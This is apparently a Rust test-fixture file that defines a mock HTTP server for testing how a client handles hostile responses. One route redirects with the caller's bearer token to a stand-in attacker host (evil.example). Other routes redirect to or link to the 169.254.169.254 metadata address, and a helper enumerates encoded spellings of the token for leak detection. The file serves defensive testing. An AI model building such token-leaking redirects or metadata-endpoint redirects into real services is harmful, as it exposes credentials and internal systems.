//! The far end of every request: a small HTTP server that keeps what it saw and knows when a connection is dropped.

use std::net::SocketAddr;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes};
use axum::extract::{ConnectInfo, Request, State};
use axum::http::{HeaderMap, HeaderName, StatusCode};
use axum::response::{IntoResponse as _, Response};
use http_body_util::BodyExt as _;
use url::Url;

/// One request as it arrived.
#[derive(Debug, Clone)]
pub(crate) struct Seen {
    pub(crate) method: String,
    pub(crate) uri: String,
    pub(crate) headers: Vec<(String, String)>,
    pub(crate) trailers: Vec<(String, String)>,
    pub(crate) body: String,
    pub(crate) peer: SocketAddr,
}

impl Seen {
    pub(crate) fn header(&self, name: &str) -> Option<&str> {
        self.headers.iter().find(|(own, _)| own == name).map(|(_, value)| value.as_str())
    }
}

#[derive(Default)]
struct Log {
    seen: Mutex<Vec<Seen>>,
    waiting: AtomicUsize,
    dropped: AtomicUsize,
    /// Lets one request to `held` go on.
    release: tokio::sync::Notify,
}

pub(crate) struct FarEnd {
    address: SocketAddr,
    log: Arc<Log>,
    _tasks: tokio::task::JoinSet<()>,
}

impl FarEnd {
    pub(crate) async fn start() -> Self {
        Self::start_on("127.0.0.1:0").await
    }

    pub(crate) async fn start_on(address: &str) -> Self {
        let listener = tokio::net::TcpListener::bind(address).await.unwrap();
        let address = listener.local_addr().unwrap();
        let log: Arc<Log> = Arc::default();
        let app = Router::new().fallback(answer).with_state(Arc::clone(&log));
        let mut tasks = tokio::task::JoinSet::new();
        tasks.spawn(async move {
            axum::serve(listener, app.into_make_service_with_connect_info::<SocketAddr>()).await.unwrap();
        });
        Self { address, log, _tasks: tasks }
    }

    pub(crate) fn url(&self) -> Url {
        Url::parse(&format!("http://{}", self.address)).unwrap()
    }

    pub(crate) fn seen(&self) -> Vec<Seen> {
        self.log.seen.lock().unwrap().clone()
    }

    /// Requests that wait for an answer which never comes.
    pub(crate) fn waiting(&self) -> usize {
        self.log.waiting.load(Ordering::SeqCst)
    }

    /// Lets one request to `held` go on.
    pub(crate) fn release(&self) {
        self.log.release.notify_one();
    }

    /// Such requests whose connection was closed.
    pub(crate) fn dropped(&self) -> usize {
        self.log.dropped.load(Ordering::SeqCst)
    }
}

/// Counts a request that ends without an answer.
struct Hanging(Arc<Log>);

impl Drop for Hanging {
    fn drop(&mut self) {
        self.0.dropped.fetch_add(1, Ordering::SeqCst);
    }
}

async fn answer(State(log): State<Arc<Log>>, ConnectInfo(peer): ConnectInfo<SocketAddr>, request: Request) -> Response {
    let (parts, body) = request.into_parts();
    let text = |headers: &HeaderMap| {
        headers
            .iter()
            .map(|(name, value)| (name.to_string(), String::from_utf8_lossy(value.as_bytes()).into_owned()))
            .collect::<Vec<_>>()
    };
    // Whose a token of the server's tests is, which is none of the requests that they look at.
    let token = parts.headers.get("authorization").and_then(|value| value.to_str().ok()).unwrap_or_default();
    if let (true, Some(owner)) =
        (parts.uri.path().ends_with("/scim/v2/Me"), token.strip_prefix("Bearer canary-token-of-"))
    {
        let name = if owner.contains('@') { owner.to_owned() } else { format!("{owner}@example.com") };
        return format!(r#"{{"userName": "{name}", "id": "77"}}"#).into_response();
    }
    let collected = body.collect().await.unwrap();
    let trailers = collected.trailers().map(&text).unwrap_or_default();
    let seen = Seen {
        method: parts.method.to_string(),
        uri: parts.uri.to_string(),
        headers: text(&parts.headers),
        trailers,
        body: String::from_utf8(collected.to_bytes().to_vec()).unwrap(),
        peer,
    };
    let earlier = {
        let mut all = log.seen.lock().unwrap();
        all.push(seen.clone());
        all.iter().filter(|other| other.uri == seen.uri).count()
    };
    let word = parts.uri.path().rsplit('/').next().unwrap_or_default().to_owned();
    match word.as_str() {
        // Gives back everything that it got, in every place where a guest could look.
        "echo" => {
            let all = format!("{seen:?}");
            let token = seen.header("authorization").unwrap_or_default().to_owned();
            let mut response = (StatusCode::OK, all).into_response();
            response.headers_mut().insert("x-echo", token.parse().unwrap());
            response.headers_mut().insert("location", format!("https://evil.example/?t={token}").parse().unwrap());
            response.headers_mut().insert("set-cookie", "session=1".parse().unwrap());
            response
        }
        // The token again, cut at every byte.
        "drip" => {
            let text = seen.header("authorization").unwrap_or_default().to_owned();
            let chunks: Vec<_> = text.bytes().map(|byte| Ok::<_, std::io::Error>(Bytes::from(vec![byte]))).collect();
            Body::from_stream(futures_stream(chunks)).into_response()
        }
        // The token in each spelling that echoes have, in the body and in headers.
        "spelled" => {
            let token = seen.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
            let spelled = spellings(&token);
            let mut response = spelled.iter().map(|text| format!("[{text}]")).collect::<String>().into_response();
            for (index, text) in spelled.iter().enumerate() {
                let name = HeaderName::try_from(format!("x-spelled-{index}")).unwrap();
                response.headers_mut().insert(name, text.parse().unwrap());
            }
            response.headers_mut().insert("content-disposition", format!("[{token}]").parse().unwrap());
            response.headers_mut().insert(HeaderName::try_from(format!("x-{token}")).unwrap(), "1".parse().unwrap());
            response
        }
        // The same, cut at every byte.
        "spelled-drip" => {
            let token = seen.header("authorization").unwrap_or_default().trim_start_matches("Bearer ").to_owned();
            let text = spellings(&token).iter().map(|text| format!("[{text}]")).collect::<String>();
            let chunks: Vec<_> = text.bytes().map(|byte| Ok::<_, std::io::Error>(Bytes::from(vec![byte]))).collect();
            Body::from_stream(futures_stream(chunks)).into_response()
        }
        // Waits to be let go, and takes no token that is old.
        "held" => {
            log.release.notified().await;
            let is_old = seen.header("authorization").is_some_and(|token| !token.contains("renewed"));
            if is_old { StatusCode::UNAUTHORIZED.into_response() } else { format!("{seen:?}").into_response() }
        }
        // Where the rows of a statement are: at this very origin, at another port of it, and where nobody may go.
        "linked" => {
            let host = seen.header("host").unwrap_or_default();
            let links = [
                format!("http://{host}/stored/part?sig=1"),
                "http://127.0.0.1:9/stored/part".to_owned(),
                "https://127.0.0.1/stored/part".to_owned(),
                "https://169.254.169.254/stored/part".to_owned(),
            ];
            let links = links.map(|link| serde_json::json!({ "external_link": link }));
            serde_json::json!({ "result": { "external_links": links } }).to_string().into_response()
        }
        "hang" => {
            log.waiting.fetch_add(1, Ordering::SeqCst);
            let _hanging = Hanging(Arc::clone(&log));
            std::future::pending::<Response>().await
        }
        "busy" if earlier < 3 => (StatusCode::TOO_MANY_REQUESTS, [("retry-after", "0")], "later").into_response(),
        "busy-long" => (StatusCode::SERVICE_UNAVAILABLE, [("retry-after", "3600")], "later").into_response(),
        "redirect" => (StatusCode::FOUND, [("location", "http://169.254.169.254/")], "").into_response(),
        "huge" => "x".repeat(3 * 1024 * 1024).into_response(),
        "gzip" => ([("content-encoding", "gzip")], "not really").into_response(),
        "slow" => {
            tokio::time::sleep(Duration::from_millis(100)).await;
            "slow".into_response()
        }
        word => match word.strip_prefix("status-").and_then(|code| code.parse().ok()) {
            Some(code) => (StatusCode::from_u16(code).unwrap(), [("retry-after", "3600")], "as asked").into_response(),
            None => "ok".into_response(),
        },
    }
}

/// The token as servers echo it: encoded, escaped, in digits, alone and within something longer.
fn spellings(token: &str) -> Vec<String> {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD};
    let each = |spell: &dyn Fn(u8) -> String| token.bytes().map(spell).collect::<String>();
    let mut all = vec![
        token.to_owned(),
        token.to_uppercase(),
        token.chars().rev().collect(),
        each(&|byte| format!("%{byte:02x}")),
        each(&|byte| format!("%25{byte:02X}")),
        each(&|byte| format!("\\u{byte:04x}")),
        each(&|byte| format!("\\u{byte:04X}")),
        each(&|byte| format!("&#{byte};")),
        each(&|byte| format!("{byte:02x}")),
        each(&|byte| format!("{byte:02X}")),
        token.bytes().map(|byte| byte.to_string()).collect::<Vec<_>>().join(", "),
    ];
    for before in ["", "u", "u:", "Bearer "] {
        let text = format!("{before}{token}");
        all.extend([STANDARD, STANDARD_NO_PAD, URL_SAFE, URL_SAFE_NO_PAD].map(|engine| engine.encode(&text)));
    }
    all
}

fn futures_stream<T>(items: Vec<T>) -> impl futures::Stream<Item = T> {
    futures::stream::iter(items)
}
